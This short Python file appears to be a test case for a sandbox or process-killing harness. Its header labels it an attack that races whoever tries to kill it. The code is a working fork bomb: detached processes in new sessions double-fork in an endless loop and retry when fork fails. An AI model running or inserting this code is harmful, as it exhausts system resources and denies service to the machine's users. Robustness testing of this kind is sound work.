# /// case
# attack = "Processes that each start two more whenever they see one missing: a race with whoever kills them."
# passes = "either"
# ///
import os, time
print(42, flush=True)
def head():
    os.setsid()
    while True:
        try:
            if os.fork() == 0:
                if os.fork():
                    os._exit(0)
                os.setsid()
        except OSError:
            time.sleep(0.001)
for _ in range(4):
    if os.fork() == 0:
        head()
os._exit(0)
